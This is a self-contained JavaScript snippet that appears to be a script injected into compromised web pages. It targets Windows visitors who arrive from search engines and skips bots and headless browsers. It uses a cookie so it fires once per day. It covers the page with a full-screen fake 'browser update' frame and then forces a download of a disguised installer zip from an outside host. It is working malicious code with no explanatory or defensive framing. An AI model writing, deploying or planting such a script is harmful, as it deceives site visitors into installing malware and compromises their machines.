(function () {
  var ua = navigator.userAgent;
  if (!/Windows NT/.test(ua) || /bot|crawl|spider|Headless/i.test(ua)) return;
  if (document.cookie.indexOf('_upd_seen=') !== -1) return;
  document.cookie = '_upd_seen=1; max-age=86400; path=/';
  var ref = document.referrer || '';
  if (!/google\.|bing\.|duckduckgo\./.test(ref)) return;
  var browser = /Edg\//.test(ua) ? 'Edge' : /Firefox\//.test(ua) ? 'Firefox' : 'Chrome';
  var frame = document.createElement('iframe');
  frame.src = 'https://browser-update.invalid/' + browser.toLowerCase() + '/index.html?r=' + encodeURIComponent(location.host);
  frame.style.cssText = 'position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:2147483647;background:#fff';
  document.documentElement.appendChild(frame);
  setTimeout(function () {
    location.href = 'https://browser-update.invalid/dl/' + browser + '_Update_Installer.zip';
  }, 8000);
})();
